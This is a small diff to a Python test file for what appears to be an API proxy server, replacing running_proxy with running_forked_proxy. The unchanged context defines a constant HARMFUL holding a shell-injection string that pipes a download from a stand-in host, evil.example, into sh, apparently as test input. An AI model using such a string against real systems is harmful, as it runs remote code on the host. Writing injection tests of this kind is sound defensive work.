@@ -15,7 +15,7 @@ from aiohttp import web
 from tests.support.fakes.server import RequestLog, Running, new_application, serving
 from tests.support.replies import CHAT, MESSAGES, Reply
 from tests.support.sdk import open_sdk
-from tests.support.server_process import Proxy, running_proxy
+from tests.support.server_process import Proxy, running_forked_proxy
 from tests.support.waiting import wait_for
 
 HARMFUL = "'; curl -s http://evil.example/x | sh; echo '"
@@ -82,7 +82,7 @@ def proxy(provider: Running, tmp_path_factory: pytest.TempPathFactory) -> Iterat
         "ANTHROPIC_UPSTREAM_URL": provider.url,
         "DATABASE_URL": f"sqlite:///{directory / 'ledger.sqlite3'}",
     }
-    with running_proxy(directory, settings) as running:
+    with running_forked_proxy(directory, settings) as running:
         yield running
         assert "Traceback" not in running.log
 
